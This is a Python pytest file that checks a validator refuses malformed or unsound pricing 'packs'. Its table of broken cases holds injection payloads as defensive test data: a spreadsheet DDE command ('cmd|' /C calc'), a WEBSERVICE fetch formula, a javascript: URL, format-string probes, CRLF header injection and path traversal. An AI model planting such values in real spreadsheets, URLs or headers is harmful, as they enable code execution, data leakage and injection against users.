"""A pack that is well formed and yet not sound is refused, whatever is wrong with it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from functools import cache
from typing import Any

import pytest

from server.core.errors import BadValue
from server.core.pack import Pack
from server.core.sound_pack import refuse_unsound
from tests.builders import all_formulas, demo_comparisons, pack_of
from tests.export.handouts import variant_pack
from tests.random_packs import own_spun_pack


@cache
def sound() -> Pack:
    return pack_of(*demo_comparisons()[:2])


def test_what_this_program_freezes_is_sound() -> None:
    for pack in (sound(), variant_pack(), pack_of(*demo_comparisons()),
                 replace(own_spun_pack().pack, reference="2026-03-12")):  # fmt: skip
        refuse_unsound(pack)


def test_every_registered_formula_is_written_as_formulas_may_be() -> None:
    from server.core.freeze import frozen_formula
    from server.core.sound_pack import _is_formula

    assert len(all_formulas()) > 100
    for each in all_formulas().values():
        assert _is_formula(frozen_formula(each.function)), each.key


def first_pair(**changes: Any) -> Callable[[Pack], Pack]:
    def change(pack: Pack) -> Pack:
        cloth = pack.cloths[0]
        pair = replace(cloth.pairs[0], **changes)
        return replace(
            pack, cloths=(replace(cloth, pairs=(pair, *cloth.pairs[1:])), *pack.cloths[1:])
        )

    return change


def first_cloth(**changes: Any) -> Callable[[Pack], Pack]:
    return lambda pack: replace(pack, cloths=(replace(pack.cloths[0], **changes), *pack.cloths[1:]))


def first_line(**changes: Any) -> Callable[[Pack], Pack]:
    return lambda pack: replace(pack, lines=(replace(pack.lines[0], **changes), *pack.lines[1:]))


def first_input(**changes: Any) -> Callable[[Pack], Pack]:
    return lambda pack: replace(pack, inputs=(replace(pack.inputs[0], **changes), *pack.inputs[1:]))


def formula(**changes: Any) -> Callable[[Pack], Pack]:
    def change(pack: Pack) -> Pack:
        name = pack.lines[0].formula
        return replace(
            pack, formulas={**pack.formulas, name: replace(pack.formulas[name], **changes)}
        )

    return change


def basis(**changes: Any) -> Callable[[Pack], Pack]:
    return lambda pack: replace(pack, basis=replace(pack.basis, **changes))


PAIR = sound().cloths[0].pairs[0]
BROKEN: dict[str, Callable[[Pack], Pack]] = {
    "sheet out of range": first_pair(sheet=10_000),
    "sheet counted from the end": first_pair(sheet=-1),
    "sheet of another length": first_pair(figures=PAIR.figures[:-1]),
    "a figure too many": first_pair(figures=(*PAIR.figures, 1.0)),
    "an input out of range": first_pair(inputs=(10_000, *PAIR.inputs[1:])),
    "an input counted from the end": first_pair(inputs=(-1, *PAIR.inputs[1:])),
    "an input too few": first_pair(inputs=PAIR.inputs[1:]),
    "a figure that is none": first_pair(figures=(float("nan"), *PAIR.figures[1:])),
    "a figure without end": first_pair(figures=(float("inf"), *PAIR.figures[1:])),
    "a figure far too large": first_pair(figures=(1e300, *PAIR.figures[1:])),
    "an input that is none": first_input(value=float("nan")),
    "no key": first_pair(key=""),
    "the key of another pair": first_pair(key=sound().cloths[0].pairs[1].key),
    "no yarns": first_pair(yarns=()),
    "one yarn twice": first_pair(yarns=(PAIR.yarns[0], PAIR.yarns[0])),
    "a count without end": first_pair(
        yarns=(replace(PAIR.yarns[0], ne=float("inf")), PAIR.yarns[1])
    ),
    "a ladder of others": first_cloth(ladder=("Q98/Q99",)),
    "a matrix of others": first_cloth(
        cells=((replace(sound().cloths[0].cells[0][0], best="Q98/Q99"),),)
    ),
    "a matrix with a hole": first_cloth(
        cells=(sound().cloths[0].cells[0], sound().cloths[0].cells[0][:1], ())
    ),
    "more pairs than there are": first_cloth(pair_count=10**80),
    "an address elsewhere": first_input(where="https://example.org/"),
    "an address elsewhere, without a scheme": first_input(where="//example.org/"),
    "an address elsewhere, backwards": first_input(where="/\\example.org/"),
    "an address that runs": first_input(where="javascript:alert(1)"),
    "a formula that is not there": first_line(formula="gone"),
    "a line fed by nothing": first_line(feeds=(("price", "nowhere"),)),
    "a line that lacks an argument": first_line(feeds=()),
    "a line twice": lambda pack: replace(
        pack, sheets=tuple(replace(s, lines=(s.lines[0], *s.lines)) for s in pack.sheets)
    ),
    "a line out of range": lambda pack: replace(
        pack, sheets=tuple(replace(s, lines=(10_000, *s.lines[1:])) for s in pack.sheets)
    ),
    "a line before what feeds it": lambda pack: replace(
        pack, sheets=tuple(replace(s, lines=s.lines[::-1]) for s in pack.sheets)
    ),
    "an input named twice": lambda pack: replace(
        pack, sheets=tuple(replace(s, inputs=(s.inputs[0], *s.inputs)) for s in pack.sheets)
    ),
    "a formula under another name": lambda pack: replace(
        pack, formulas={f"{name}x": each for name, each in pack.formulas.items()}
    ),
    "words that reach for more": formula(words="{price.__class__.__mro__}"),
    "words by place": formula(words="{price[0]}"),
    "words as wide as memory": formula(words="{price:>1000000000}"),
    "words shown otherwise": formula(words="{price!r}"),
    "words with an open brace": formula(words="{price"),
    "words of an unknown argument": formula(words="{nothing_of_the_kind}"),
    "words by number": formula(words="{0}"),
    "cells that fetch": formula(cells='WEBSERVICE("http://example.org/"&{price})'),
    "cells that run a program": formula(cells="cmd|' /C calc'!A0"),
    "cells that read another sheet": formula(cells="'Sheet2'!A1"),
    "cells that read another file": formula(cells="[other.xlsx]Sheet!A1"),
    "cells of another argument": formula(cells="{other}*2"),
    "cells with words": formula(cells="SUM({price})"),
    "cells by place": formula(cells="{price.real}"),
    "the buyer's view": lambda pack: replace(pack, view="buyer"),
    "another view": lambda pack: replace(pack, view="secret"),
    "another headline": lambda pack: replace(pack, headline="margin"),
    "a draft": lambda pack: replace(pack, made_at=None),
    "made at no certain moment": lambda pack: replace(pack, made_at=datetime(2026, 3, 11, 18, 30)),  # noqa: DTZ001
    "a reference of a page": lambda pack: replace(pack, reference="put"),
    "a reference that is a path": lambda pack: replace(pack, reference="2026-03-12/../.."),
    "a reference with a line": lambda pack: replace(pack, reference="2026-03-12\r\nset-cookie: a"),
    "a reference that ends in a format": lambda pack: replace(pack, reference="2026-03-12.json"),
    "a reference with quotes": lambda pack: replace(pack, reference='2026-03-12"; a="'),
    "no reference": lambda pack: replace(pack, reference=""),
    "no currency": basis(currency=""),
    "a currency of markup": basis(currency="<b>"),
    "metres without end": basis(metres=float("inf")),
}  # fmt: skip


@pytest.mark.parametrize("broken", BROKEN.values(), ids=BROKEN)
def test_a_pack_that_is_not_sound_is_refused(broken: Callable[[Pack], Pack]) -> None:
    with pytest.raises(BadValue, match="cannot be relied on") as refused:
        refuse_unsound(broken(sound()))
    assert refused.value.field == "file"
    assert refused.value.remedy
